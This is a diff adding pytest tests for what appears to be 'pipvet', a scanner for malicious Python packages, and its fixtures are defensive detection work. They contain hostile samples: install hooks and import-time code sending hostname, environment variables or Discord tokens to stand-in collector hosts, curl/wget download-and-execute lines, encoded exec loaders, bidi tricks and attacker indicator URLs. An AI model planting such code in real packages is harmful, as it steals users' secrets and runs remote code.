@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import textwrap
 
+import pytest
+
 from pipvet.core.analysis.engine import analyze
 from pipvet.core.analysis.model import Artifact, Member
 
@@ -52,3 +54,286 @@ def test_setup_piping_curl_to_shell_is_malicious() -> None:
     result = analyze(artifact({"setup.py": src}))
     assert result.verdict == "malicious"
     assert "intent.shell-download-execute" in {f.rule for f in result.findings}
+
+
+# -- install time ---------------------------------------------------------------------------------
+
+
+def test_cmdclass_install_override_sending_hostname_is_exfiltration() -> None:
+    src = """
+        import socket, getpass
+        from urllib import request
+        from setuptools import setup
+        from setuptools.command.install import install
+
+        class PostInstall(install):
+            def run(self):
+                data = socket.gethostname() + ":" + getpass.getuser()
+                request.urlopen("https://collector.example/c?d=" + data)
+                install.run(self)
+
+        setup(name="demo", cmdclass={"install": PostInstall})
+    """
+    result = analyze(artifact({"setup.py": src}))
+    rules = {f.rule for f in result.findings}
+    assert {"install-time.cmdclass", "intent.exfiltration"} <= rules
+    assert result.verdict == "malicious"
+
+
+def test_build_ext_override_compiling_is_not_flagged() -> None:
+    src = """
+        import subprocess
+        from setuptools import setup
+        from setuptools.command.build_ext import build_ext
+
+        class Build(build_ext):
+            def run(self):
+                subprocess.check_call(["cmake", "--build", "."])
+                super().run()
+
+        setup(name="demo", cmdclass={"build_ext": Build})
+    """
+    assert verdict_of({"setup.py": src}) in ("clean", "risky")
+
+
+def test_pth_file_with_decoded_exec_is_malicious_and_plain_pth_is_not() -> None:
+    bad = "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n"
+    assert verdict_of({"evil.pth": bad}) == "malicious"
+    honest = "import sys; sys.path.insert(0, '/opt/lib')\n"
+    assert rules_of({"paths.pth": honest}) == {"install-time.pth-code"}
+    assert verdict_of({"paths.pth": honest}) == "risky"
+    assert rules_of({"plain.pth": "/opt/lib\n"}) == set()
+
+
+# -- dataflow and obfuscation ---------------------------------------------------------------------
+
+
+def test_alias_import_and_getattr_import_are_resolved() -> None:
+    src = """
+        from os import system as s
+        s("wget -q http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x")
+    """
+    assert "intent.shell-download-execute" in rules_of({"demo/__init__.py": src})
+    src2 = """
+        m = getattr(__import__('o' + 's'), 'sys' + 'tem')
+        m("curl http://example.invalid/p.sh | bash")
+    """
+    assert "intent.shell-download-execute" in rules_of({"demo/__init__.py": src2})
+
+
+def test_chr_joined_code_reaching_exec_is_unfolded_and_analysed() -> None:
+    code = "import os;os.system('curl http://example.invalid/a|sh')"
+    ints = ",".join(str(ord(c)) for c in code)
+    src = f"exec(''.join(chr(c) for c in [{ints}]))\n"
+    rules = rules_of({"demo/__init__.py": src})
+    assert "obfuscation.hidden-code-exec" in rules
+    assert "intent.shell-download-execute" in rules  # found inside the folded payload
+
+
+def test_base64_layers_feeding_exec_at_import_is_malicious() -> None:
+    src = """
+        import base64, zlib
+        blob = "eJzLzE3NBQADpgIA"  # any blob: the flow matters, not the content
+        exec(zlib.decompress(base64.b64decode(blob)))
+    """
+    result = analyze(artifact({"demo/__init__.py": src}))
+    assert "intent.decode-execute" in {f.rule for f in result.findings}
+    assert result.verdict == "malicious"
+
+
+def test_base64_decode_without_execution_is_not_flagged() -> None:
+    src = """
+        import base64
+        def icon():
+            return base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB")
+    """
+    assert verdict_of({"demo/images.py": src}) == "clean"
+
+
+def test_literal_exec_and_version_exec_in_setup_are_not_flagged() -> None:
+    src = """
+        from setuptools import setup
+        about = {}
+        exec(open("demo/__about__.py").read(), about)
+        setup(name="demo", version=about["__version__"])
+    """
+    assert verdict_of({"setup.py": src}) in ("clean", "risky")
+
+
+def test_builtins_looked_up_by_computed_name_is_flagged() -> None:
+    src = """
+        n = ''.join(reversed('cexe'))[::-1][::-1]
+        getattr(__builtins__, n + str(len(n)))
+    """
+    assert "obfuscation.builtins-lookup" in rules_of({"setup.py": src})
+
+
+def test_bidi_control_characters_are_flagged() -> None:
+    src = 'access = "user\u202e \u2066# admin\u2069 \u2066"\n'
+    assert "obfuscation.bidi" in rules_of({"demo/auth.py": src})
+    assert "obfuscation.bidi" not in rules_of({"demo/auth.py": 'access = "user"\n'})
+
+
+def test_python2_source_falls_back_to_tokens() -> None:
+    src = """
+        import os, base64
+        exec base64.b64decode("b3Muc3lzdGVtKCdpZCcp")
+        print "installed"
+    """
+    rules = rules_of({"setup.py": src})
+    assert "intent.decode-execute" in rules
+
+
+# -- capabilities, intent and where code runs -----------------------------------------------------
+
+
+def test_env_dump_posted_at_import_is_exfiltration() -> None:
+    src = """
+        import os, json, requests
+        payload = json.dumps(dict(os.environ))
+        requests.post("https://collect.example/x", data=payload)
+    """
+    result = analyze(artifact({"demo/__init__.py": src}))
+    assert "intent.exfiltration" in {f.rule for f in result.findings}
+    assert result.verdict == "malicious"
+
+
+def test_api_client_sending_token_when_called_is_not_flagged() -> None:
+    src = """
+        import os, requests
+        def fetch(url):
+            token = os.environ.get("DEMO_TOKEN")
+            return requests.get(url, headers={"Authorization": token}, timeout=10)
+    """
+    assert verdict_of({"demo/client.py": src}) in ("clean", "risky")
+
+
+def test_network_in_setup_py_is_suspicious() -> None:
+    src = """
+        import urllib.request
+        from setuptools import setup
+        urllib.request.urlopen("https://example.invalid/ping")
+        setup(name="demo")
+    """
+    assert verdict_of({"setup.py": src}) == "suspicious"
+
+
+def test_download_then_execute_is_malicious() -> None:
+    src = """
+        import urllib.request
+        code = urllib.request.urlopen("https://example.invalid/stage2.py").read()
+        exec(code)
+    """
+    assert "intent.download-execute" in rules_of({"demo/__init__.py": src})
+    assert verdict_of({"demo/__init__.py": src}) == "malicious"
+
+
+def test_credential_store_read_next_to_network_code() -> None:
+    src = """
+        import os, requests
+        def grab():
+            path = os.path.expanduser("~/AppData/Roaming/discord/Local Storage/leveldb")
+            for name in os.listdir(path):
+                data = open(os.path.join(path, name)).read()
+                requests.post("https://collect.example/t", data=data)
+        grab()
+    """
+    assert "intent.credential-theft" in rules_of({"demo/__init__.py": src})
+
+
+def test_same_code_in_tests_weighs_less() -> None:
+    src = """
+        import urllib.request
+        urllib.request.urlopen("https://example.invalid/ping")
+    """
+    assert verdict_of({"demo/net.py": src}) == "risky"
+    assert verdict_of({"tests/test_net.py": src}) in ("clean", "risky")
+
+
+def test_shell_script_member_is_read_for_attacks() -> None:
+    assert "intent.shell-download-execute" in rules_of(
+        {"install.sh": "#!/bin/sh\ncurl -fsSL http://example.invalid/i | sh\n"}
+    )
+    assert rules_of({"build.sh": "#!/bin/sh\nmake -j4\n"}) == set()
+
+
+# -- indicators -----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("url", "rule"),
+    [
+        ("https://discord.com/api/webhooks/1/abc", "indicator.messenger-webhook"),
+        ("https://api.telegram.org/bot123:abc/sendMessage", "indicator.messenger-webhook"),
+        ("https://abcd.oastify.com", "indicator.tunnel-or-callback"),
+        ("https://x.ngrok-free.app/p", "indicator.tunnel-or-callback"),
+        ("https://pastebin.com/raw/abc", "indicator.paste-site"),
+        ("http://45.33.32.156:8080/x", "indicator.raw-ip-url"),
+        ("http://duskgytldkxiuqc6.onion/x", "indicator.onion"),
+    ],
+)
+def test_indicators(url: str, rule: str) -> None:
+    assert rule in rules_of({"demo/__init__.py": f"URL = {url!r}\n"})
+
+
+def test_private_ips_and_docstring_urls_are_not_indicators() -> None:
+    src = '''
+        """See https://pastebin.com/raw/abc for details."""
+        LOCAL = "http://127.0.0.1:8080/"
+        LAN = "http://192.168.1.10/"
+    '''
+    assert rules_of({"demo/__init__.py": src}) == set()
+
+
+# -- metadata -------------------------------------------------------------------------------------
+
+
+def test_typosquat_and_dependency_confusion_version() -> None:
+    from pipvet.core.analysis.rules.metadata import typosquat_target
+
+    assert typosquat_target("reqeusts") == "requests"
+    assert typosquat_target("python-requests") == "requests"
+    assert typosquat_target("requests") is None
+    assert typosquat_target("zzqxv-unrelated") is None
+    art = Artifact(filename="x.tar.gz", kind="sdist", name="internal-lib", version="999.0.0")
+    assert "metadata.dependency-confusion-version" in {f.rule for f in analyze(art).findings}
+    calver = Artifact(filename="x.tar.gz", kind="sdist", name="internal-lib", version="2024.1")
+    assert "metadata.dependency-confusion-version" not in {f.rule for f in analyze(calver).findings}
+
+
+def test_bundled_binary_in_sdist_only() -> None:
+    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
+    assert "metadata.bundled-binary" in rules_of({"demo/payload.bin": elf})
+    wheel = Artifact(
+        filename="demo-1.0-py3-none-any.whl",
+        kind="wheel",
+        members=(Member("demo/_speedups.so", len(elf), elf),),
+    )
+    assert "metadata.bundled-binary" not in {f.rule for f in analyze(wheel).findings}
+
+
+def test_popular_names_list_is_generated_with_a_header() -> None:
+    from importlib import resources
+
+    text = resources.files("pipvet.data").joinpath("popular_names.txt").read_text("utf-8")
+    assert text.startswith("# Popular PyPI project names")
+    assert "Source: top-pypi-15000.tsv" in text.splitlines()[1]
+
+
+# -- verdict --------------------------------------------------------------------------------------
+
+
+def test_verdict_and_score_follow_the_worst_finding() -> None:
+    from pipvet.core.analysis.model import Finding
+    from pipvet.core.analysis.verdict import judge
+
+    def f(sev: str, path: str = "pkg/mod.py") -> Finding:
+        return Finding("r", "c", sev, path, 1, "m")
+
+    assert judge([]) == ("clean", 0)
+    assert judge([f("critical")])[0] == "malicious"
+    assert judge([f("high"), f("low")])[0] == "suspicious"
+    assert judge([f("medium")])[0] == "risky"
+    assert judge([f("high", "pkg/tests/test_x.py")])[0] == "risky"
+    assert judge([f("critical")])[1] > judge([f("high")])[1] > judge([f("medium")])[1]
+    assert 0 <= judge([f("critical")] * 50)[1] <= 100
